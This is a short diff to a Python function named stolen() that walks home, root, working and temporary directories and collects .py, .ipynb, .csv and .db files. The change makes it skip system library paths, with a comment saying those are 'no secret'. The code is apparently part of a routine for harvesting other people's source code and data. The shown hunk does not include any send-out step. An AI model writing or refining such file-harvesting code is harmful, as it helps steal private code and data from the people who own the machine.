@@ -6,6 +6,9 @@ SYSTEM = ("/proc", "/sys", "/dev", "/usr", "/lib")
 def stolen():
     for root in ("/work", "/home", "/root", "/tmp", "/srv", "/opt", "/var", os.getcwd()):
         for folder, folders, files in os.walk(root):
+            if folder.startswith(SYSTEM):  # the system's own libraries are no secret
+                folders.clear()
+                continue
             folders[:] = [name for name in folders if not name.endswith("-packages") and "python3" not in name]
             for name in files:
                 if name.endswith((".py", ".ipynb", ".csv", ".db")):
